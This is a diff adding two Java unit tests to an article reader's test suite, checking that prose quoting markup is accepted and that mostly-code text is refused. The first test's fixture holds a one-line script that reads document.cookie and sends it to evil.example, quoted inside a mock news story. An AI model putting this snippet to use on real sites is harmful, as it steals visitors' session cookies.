@@ -122,4 +122,35 @@ class ArticleReaderTest {
                     .isInstanceOfSatisfying(IngestionRefusedException.class, e -> assertThat(e.reason()).isEqualTo(Reason.NO_PROSE));
         }
     }
+
+    @Test
+    void proseThatQuotesALineOfMarkupIsStillAnArticle() {
+        String script = "<script>var c=document.cookie;if(c){var i=new Image();i.src=\"https://evil.example/c?v=\"+c;}</script>";
+        String text = """
+                Hackers Planted Script on City Website
+                The city's website served a malicious script to its visitors for two days, officials said on Monday.
+                Investigators found one line added to the page of road closures:
+                %s
+                It sent the visitors' session cookies to a server abroad, the security office said.
+                Residents who paid parking fines in those days were told to change their passwords.""".formatted(script);
+
+        ParsedArticle article = reader.read(text, "hack.txt");
+
+        assertThat(article.title()).isEqualTo("Hackers Planted Script on City Website");
+        assertThat(article.blocks()).extracting(Block::getText).contains(script);
+    }
+
+    @Test
+    void aTextThatIsMostlyCodeIsRefusedEvenWithASentenceOfProse() {
+        String text = """
+                This file sets up the reader tracking on every page of the site.
+                function track(reader) { if (reader.id == null) { return; } }
+                const pages = document.querySelectorAll("article[data-id]");
+                pages.forEach(page => { page.dataset.seen = "true"; track(page); });
+                window.addEventListener("load", () => { track({ id: 1 }); });
+                <script src="/track.js"></script>""";
+
+        assertThatThrownBy(() -> reader.read(text, "track.js"))
+                .isInstanceOfSatisfying(IngestionRefusedException.class, e -> assertThat(e.reason()).isEqualTo(Reason.NO_PROSE));
+    }
 }
